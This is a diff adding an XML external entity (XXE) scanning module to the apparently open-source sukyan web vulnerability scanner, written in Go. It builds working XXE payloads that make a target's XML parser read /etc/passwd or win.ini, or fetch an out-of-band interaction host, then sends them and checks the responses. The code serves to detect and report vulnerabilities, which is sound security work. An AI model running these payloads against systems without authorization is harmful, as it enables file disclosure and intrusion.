@@ -0,0 +1,276 @@
+package active
+
+import (
+	"bytes"
+	"fmt"
+	"net/http"
+	"strings"
+
+	"github.com/pyneda/sukyan/db"
+	"github.com/pyneda/sukyan/lib"
+	"github.com/pyneda/sukyan/lib/integrations"
+	"github.com/pyneda/sukyan/pkg/http_utils"
+	"github.com/rs/zerolog/log"
+)
+
+const xxeInsertionPoint = "XML body"
+
+// xxeFileRead is a local file referenced by an external entity, together with the content that proves it has been read
+type xxeFileRead struct {
+	Path    string
+	Markers []string
+}
+
+var xxeFileReads = []xxeFileRead{
+	{Path: "file:///etc/passwd", Markers: []string{"root:x:0:0:"}},
+	{Path: "file:///c:/windows/win.ini", Markers: []string{"[fonts]", "; for 16-bit app support"}},
+}
+
+// isXMLRequest checks if the history item request has an XML body, such as the SOAP ones
+func isXMLRequest(history *db.History) bool {
+	body := bytes.TrimSpace(history.RequestBody)
+	if len(body) == 0 || body[0] != '<' {
+		return false
+	}
+	return strings.Contains(strings.ToLower(history.RequestContentType), "xml") || bytes.HasPrefix(body, []byte("<?xml"))
+}
+
+// injectXXEDTD returns the XML document with an internal DTD holding the provided declarations, replacing the text
+// content of its elements with the entity reference so it is expanded where the application reads its values. When
+// the document has no text content, the reference is added as the content of the root element. Documents which
+// already declare a DTD or can not be parsed are not modified, returning false.
+func injectXXEDTD(document, declarations, reference string) (string, bool) {
+	rest := strings.TrimLeft(document, "\ufeff \t\r\n")
+	var prolog string
+	if strings.HasPrefix(rest, "<?xml") {
+		end := strings.Index(rest, "?>")
+		if end == -1 {
+			return "", false
+		}
+		prolog = rest[:end+2]
+		rest = rest[end+2:]
+	}
+
+	// Skip the comments and processing instructions before the root element
+	offset := 0
+	for {
+		next := strings.IndexByte(rest[offset:], '<')
+		if next == -1 {
+			return "", false
+		}
+		offset += next
+		switch {
+		case strings.HasPrefix(rest[offset:], "<!--"):
+			end := strings.Index(rest[offset:], "-->")
+			if end == -1 {
+				return "", false
+			}
+			offset += end + 3
+			continue
+		case strings.HasPrefix(rest[offset:], "<?"):
+			end := strings.Index(rest[offset:], "?>")
+			if end == -1 {
+				return "", false
+			}
+			offset += end + 2
+			continue
+		case strings.HasPrefix(rest[offset:], "<!"):
+			// The document already has a DOCTYPE
+			return "", false
+		}
+		break
+	}
+	rootEnd := strings.IndexAny(rest[offset+1:], " \t\r\n/>")
+	if rootEnd <= 0 {
+		return "", false
+	}
+	root := rest[offset+1 : offset+1+rootEnd]
+
+	body := rest[offset:]
+	if reference != "" {
+		var replaced bool
+		body, replaced = replaceXMLTextNodes(body, reference)
+		if !replaced {
+			tagEnd := strings.IndexByte(body, '>')
+			if tagEnd == -1 || body[tagEnd-1] == '/' {
+				return "", false
+			}
+			body = body[:tagEnd+1] + reference + body[tagEnd+1:]
+		}
+	}
+
+	return fmt.Sprintf("%s<!DOCTYPE %s [%s]>%s%s", prolog, root, declarations, rest[:offset], body), true
+}
+
+// replaceXMLTextNodes replaces the non blank text between the elements of an XML document with the provided value,
+// leaving the comments, CDATA sections and processing instructions untouched
+func replaceXMLTextNodes(document, value string) (string, bool) {
+	var sb strings.Builder
+	replaced := false
+	i := 0
+	for i < len(document) {
+		if document[i] != '<' {
+			next := strings.IndexByte(document[i:], '<')
+			if next == -1 {
+				next = len(document) - i
+			}
+			text := document[i : i+next]
+			if strings.TrimSpace(text) != "" {
+				sb.WriteString(value)
+				replaced = true
+			} else {
+				sb.WriteString(text)
+			}
+			i += next
+			continue
+		}
+		terminator := ">"
+		switch {
+		case strings.HasPrefix(document[i:], "<!--"):
+			terminator = "-->"
+		case strings.HasPrefix(document[i:], "<![CDATA["):
+			terminator = "]]>"
+		case strings.HasPrefix(document[i:], "<?"):
+			terminator = "?>"
+		}
+		end := strings.Index(document[i:], terminator)
+		if end == -1 {
+			sb.WriteString(document[i:])
+			break
+		}
+		end += i + len(terminator)
+		sb.WriteString(document[i:end])
+		i = end
+	}
+	return sb.String(), replaced
+}
+
+// buildXXEOOBPayloads returns XML documents making the parser fetch the interaction address, either through a general
+// entity referenced in the document content or a parameter entity expanded within the DTD
+func buildXXEOOBPayloads(document, entity, interactionAddress string) []string {
+	var payloads []string
+	general := fmt.Sprintf(`<!ENTITY %s SYSTEM "http://%s/">`, entity, interactionAddress)
+	if payload, ok := injectXXEDTD(document, general, "&"+entity+";"); ok {
+		payloads = append(payloads, payload)
+	}
+	parameter := fmt.Sprintf(`<!ENTITY %% %s SYSTEM "http://%s/"> %%%s;`, entity, interactionAddress, entity)
+	if payload, ok := injectXXEDTD(document, parameter, ""); ok {
+		payloads = append(payloads, payload)
+	}
+	return payloads
+}
+
+// buildXXEFileReadPayload returns the XML document with its content replaced by an entity referencing a local file
+func buildXXEFileReadPayload(document, entity string, file xxeFileRead) (string, bool) {
+	return injectXXEDTD(document, fmt.Sprintf(`<!ENTITY %s SYSTEM "%s">`, entity, file.Path), "&"+entity+";")
+}
+
+// matchXXEFileRead returns the first marker of the file found in the response which was not already in the original one
+func matchXXEFileRead(original, response []byte, file xxeFileRead) (string, bool) {
+	for _, marker := range file.Markers {
+		if bytes.Contains(response, []byte(marker)) && !bytes.Contains(original, []byte(marker)) {
+			return marker, true
+		}
+	}
+	return "", false
+}
+
+func newXXEOOBTest(history *db.History, payload string, interactionData integrations.InteractionDomain, options ActiveModuleOptions) db.OOBTest {
+	return db.OOBTest{
+		Code:              db.XxeCode,
+		TestName:          "XML External Entity via XML body",
+		InteractionDomain: interactionData.URL,
+		InteractionFullID: interactionData.ID,
+		Target:            history.URL,
+		Payload:           payload,
+		HistoryID:         &history.ID,
+		InsertionPoint:    xxeInsertionPoint,
+		WorkspaceID:       &options.WorkspaceID,
+		TaskID:            &options.TaskID,
+		TaskJobID:         &options.TaskJobID,
+	}
+}
+
+// XXEScan injects external entities in the XML body of requests, such as SOAP ones, keeping the original document
+// structure so it reaches the XML parser. Blind XXE is detected through OOB interactions while local file reads are
+// detected in the response.
+func XXEScan(history *db.History, interactionsManager *integrations.InteractionsManager, options ActiveModuleOptions) {
+	auditLog := log.With().Str("audit", "xxe").Str("url", history.URL).Uint("workspace", options.WorkspaceID).Logger()
+	if !isXMLRequest(history) {
+		return
+	}
+	document := string(history.RequestBody)
+	client := http_utils.CreateHttpClientWithOptions(options.ClientOptions)
+
+	if interactionsManager != nil {
+		templates := buildXXEOOBPayloads(document, "xxe", "{{interactionAddress}}")
+		for _, template := range templates {
+			interactionData, reused, err := interactionsManager.GetURLForTest(integrations.OOBTestKey{
+				Target:         history.URL,
+				InsertionPoint: xxeInsertionPoint,
+				Payload:        template,
+			})
+			if err != nil {
+				auditLog.Warn().Err(err).Msg("Skipping XXE OOB test")
+				continue
+			}
+			if reused {
+				auditLog.Debug().Msg("Interaction url already used by an identical test, skipping")
+				continue
+			}
+			payload := strings.ReplaceAll(template, "{{interactionAddress}}", interactionData.URL)
+			newHistory, err := sendXXEPayload(client, history, payload, options)
+			if err != nil {
+				auditLog.Error().Err(err).Msg("Error sending XXE OOB payload")
+				continue
+			}
+			if _, err := db.Connection.CreateOOBTest(newXXEOOBTest(newHistory, payload, interactionData, options)); err != nil {
+				auditLog.Error().Err(err).Msg("Error creating OOB test")
+			}
+		}
+	} else {
+		auditLog.Debug().Msg("Skipping XXE OOB tests as no interactions manager has been provided")
+	}
+
+	for _, file := range xxeFileReads {
+		payload, ok := buildXXEFileReadPayload(document, lib.GenerateRandomLowercaseString(6), file)
+		if !ok {
+			auditLog.Debug().Msg("Could not inject a DTD in the XML body")
+			return
+		}
+		newHistory, err := sendXXEPayload(client, history, payload, options)
+		if err != nil {
+			auditLog.Error().Err(err).Str("file", file.Path).Msg("Error sending XXE file read payload")
+			continue
+		}
+		marker, found := matchXXEFileRead(history.ResponseBody, newHistory.ResponseBody, file)
+		if !found {
+			continue
+		}
+		auditLog.Info().Str("file", file.Path).Msg("Local file read through an XML external entity")
+		details := fmt.Sprintf("An external entity referencing `%s` has been declared in the XML body of the request and the response contains `%s`, which indicates the file content has been included by the XML parser.\n\nThe following payload has been sent:\n\n%s", file.Path, marker, payload)
+		db.CreateIssueFromHistoryAndTemplateWithOptions(newHistory, db.XxeCode, details, 90, "", &options.WorkspaceID, &options.TaskID, &options.TaskJobID, db.IssueCreationOptions{InsertionPoint: xxeInsertionPoint})
+		return
+	}
+	auditLog.Info().Msg("XXE audit completed")
+}
+
+func sendXXEPayload(client *http.Client, history *db.History, payload string, options ActiveModuleOptions) (*db.History, error) {
+	modified := *history
+	modified.RequestBody = []byte(payload)
+	request, err := http_utils.BuildRequestFromHistoryItem(&modified)
+	if err != nil {
+		return nil, err
+	}
+	response, err := http_utils.SendRequest(client, request)
+	if err != nil {
+		return nil, err
+	}
+	return http_utils.ReadHttpResponseAndCreateHistory(response, http_utils.HistoryCreationOptions{
+		Source:              db.SourceScanner,
+		WorkspaceID:         options.WorkspaceID,
+		TaskID:              options.TaskID,
+		TaskJobID:           options.TaskJobID,
+		CreateNewBodyStream: false,
+	})
+}